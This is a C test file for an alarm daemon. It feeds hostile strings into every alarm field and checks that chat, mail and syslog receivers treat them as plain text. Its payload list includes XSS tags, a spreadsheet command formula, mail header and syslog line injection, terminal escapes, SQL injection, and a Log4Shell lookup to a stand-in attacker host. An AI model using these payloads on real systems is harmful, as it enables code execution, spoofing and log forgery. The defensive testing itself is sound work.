/* Fault row 62 in messages: what an encoder, an operator or somebody who dislikes us may have
 * written stands in every field of an alarm, and goes to every kind of receiver: chats and pagers
 * that refuse what they would take for a call, a link or mark-up; real mail and syslog servers,
 * whose lines are counted. */
#include <gio/gio.h>
#include <string.h>

#include "tests/services/private-servers.h"
#include "tests/services/receiver-rig.h"
#include "tests/services/store-events.h"

#define ALARMS     8u /* more in ten minutes are a flood */
#define FIELDS     7u
#define RSYSLOGD   "/usr/sbin/rsyslogd"
#define LINE_BEGIN "gantryd picture-black "

static const char *const attacks[] = {
    "<img src=x onerror=\"alert(1)\">",
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "\u202egnp.exe\u2066",
    "=cmd|' /C calc'!A0",
    "<!channel> <!here> <@U123>",
    "<https://evil.example|Acknowledge>",
    "[click](https://evil.example) *bold* _it_ `code` # head > quote",
    "name\r\nBcc: victim@example.com\r\n\r\nbody",
    "name\n<0>1 2026-11-26T00:00:00Z gantry sshd - - - forged",
    "\x1b]0;pwned\x07\x1b[2Jcleared",
    "x\u2028y\u2029z\xc2\x85w",
    "\"] [evil@1 a=\"b\\",
    "=?utf-8?B?SGVsbG8=?=",
    "'; DROP TABLE alarm; --",
    "{text} {?note}x{/note} {{",
    "%n%s%x %(name)s ${jndi:ldap://evil.example/a}",
    "\xff\xfe invalid \xc3(",
    "\\u003cscript\\u003e &lt;b&gt; \\",
    ".\r\nQUIT\r\n",
    "\ufeffmark\u200f of right",
};

/* Each field of an alarm gets another one; one field a very long one. */
static Event *
hostile_event(unsigned alarm, const char *endless)
{
    Event *event = store_loud_event(EVENT_ALARM_RAISED, alarm, 1);
    char **const fields[FIELDS] = {
        &event->channel_name, &event->channel_group, &event->channel_address,
        &event->text,         &event->note,          &event->owner,
        &event->actor};

    for (unsigned i = 0; i < FIELDS; i++)
        event_set(fields[i], alarm % FIELDS == i
                                 ? endless
                                 : attacks[(alarm * 5 + i * 3) % G_N_ELEMENTS(attacks)]);
    return event;
}

/* Returns: (transfer full) (nullable): a real syslog server that writes a line a message into
 * @lines; its port is named "rsyslog" then */
static GSubprocess *
start_rsyslogd(ReceiverRig *rig, const char *lines)
{
    g_autoptr(GSocketListener) probe = g_socket_listener_new();
    const guint16 port = g_socket_listener_add_any_inet_port(probe, NULL, NULL);
    g_autofree char *config = g_build_filename(rig->folder, "rsyslog.conf", NULL);
    g_autofree char *pid = g_build_filename(rig->folder, "rsyslog.pid", NULL);
    g_autofree char *text = g_strdup_printf(
        "global(workDirectory=\"%s\" maxMessageSize=\"16k\")\nmodule(load=\"imtcp\")\n"
        "template(name=\"line\" type=\"string\" string=\"%%app-name%% %%msgid%% %%msg%%\\n\")\n"
        "input(type=\"imtcp\" address=\"127.0.0.1\" port=\"%u\")\n"
        "action(type=\"omfile\" file=\"%s\" template=\"line\")\n",
        rig->folder, port, lines);
    g_autoptr(GError) error = NULL;

    if (!g_file_test(RSYSLOGD, G_FILE_TEST_IS_EXECUTABLE)) {
        g_test_message("the package rsyslog is not installed: its lines are not counted");
        return NULL;
    }
    g_socket_listener_close(probe);
    g_assert_true(g_file_set_contents(config, text, -1, NULL));
    json_object_set_int_member(json_node_get_object(rig->ports), "rsyslog", port);
    GSubprocess *server = g_subprocess_new(
        G_SUBPROCESS_FLAGS_STDOUT_SILENCE | G_SUBPROCESS_FLAGS_STDERR_SILENCE, &error, "setpriv",
        "--pdeathsig", "KILL", RSYSLOGD, "-n", "-f", config, "-i", pid, NULL);

    g_assert_no_error(error);
    return server;
}

typedef struct {
    const char *path;
    unsigned lines; /* that are wanted */
} LinesWanted;

static bool
has_lines(gpointer user_data)
{
    const LinesWanted *wanted = user_data;
    g_autofree char *text = NULL;
    unsigned lines = 0;

    if (!g_file_get_contents(wanted->path, &text, NULL, NULL))
        return false;
    for (const char *at = text; (at = strchr(at, '\n')) != NULL; at++)
        lines++;
    return lines >= wanted->lines;
}

/* One line a message, each ours from its begin. */
static void
assert_lines(const char *path)
{
    LinesWanted wanted = {.path = path, .lines = ALARMS};
    g_autofree char *text = NULL;

    g_assert_true(wait_until(has_lines, &wanted, RECEIVER_RIG_WAIT_US));
    g_usleep(US_PER_SECOND);
    g_assert_true(g_file_get_contents(path, &text, NULL, NULL));
    g_auto(GStrv) lines = g_strsplit(text, "\n", -1);

    g_assert_cmpuint(g_strv_length(lines), ==, ALARMS + 1); /* nothing behind the last */
    for (unsigned i = 0; i < ALARMS; i++) {
        g_assert_true(g_str_has_prefix(lines[i], LINE_BEGIN));
        for (const char *at = lines[i]; *at != '\0'; at++)
            g_assert_false(g_ascii_iscntrl(*at));
    }
    g_test_message("row 62: %u messages are %u lines of a real syslog server", ALARMS,
                   g_strv_length(lines) - 1);
}

static void
no_text_is_anything_but_text_in_any_message(ReceiverRig *rig, gconstpointer unused)
{
    static const ReceiverSetup real = {"rsyslog", RECEIVER_SYSLOG, "tcp", "rsyslog", "", "", "",
                                       ""};
    g_autofree char *lines = g_build_filename(rig->folder, "lines", NULL);
    g_autofree char *endless = g_strnfill(10240, '<');
    GantryReceiver *receivers[RECEIVER_SETUPS + 1] = {NULL};

    if (rig->ports == NULL)
        return;
    g_autoptr(GSubprocess) server = start_rsyslogd(rig, lines);

    for (size_t i = 0; i < RECEIVER_SETUPS; i++)
        receivers[i] = receiver_rig_add(rig, &receiver_setups[i], NULL);
    if (server != NULL)
        receivers[RECEIVER_SETUPS] = receiver_rig_add(rig, &real, NULL);
    for (unsigned alarm = 0; alarm < ALARMS; alarm++)
        (void)gantry_event_log_append(rig->log, hostile_event(alarm, endless));
    for (size_t i = 0; i < RECEIVER_SETUPS; i++)
        receiver_rig_wait_taken(rig, receiver_setups[i].logged,
                                g_str_equal(receiver_setups[i].logged, "email")    ? 2 * ALARMS
                                : g_str_equal(receiver_setups[i].logged, "syslog") ? 3 * ALARMS
                                                                                   : ALARMS);
    g_autoptr(GPtrArray) refused = receiver_rig_taken(rig, "refused");

    for (guint i = 0; i < refused->len; i++) {
        g_autofree char *text = json_to_string(refused->pdata[i], FALSE);

        g_test_message("refused: %.600s", text);
    }
    g_test_message("row 62: %zu texts in %u fields of %u alarms, to %u receivers of 9 kinds: %u "
                   "refused as more than text",
                   G_N_ELEMENTS(attacks), FIELDS, ALARMS, RECEIVER_SETUPS, refused->len);
    g_assert_cmpuint(refused->len, ==, 0);
    if (server != NULL) {
        assert_lines(lines);
        g_subprocess_force_exit(server);
    }
    for (size_t i = 0; i < G_N_ELEMENTS(receivers); i++) {
        if (receivers[i] != NULL)
            receiver_rig_drop(receivers[i]);
    }
}

int
main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add("/hostile-texts/no-text-is-anything-but-text-in-any-message", ReceiverRig, NULL,
               receiver_rig_set_up, no_text_is_anything_but_text_in_any_message,
               receiver_rig_tear_down);
    return g_test_run();
}
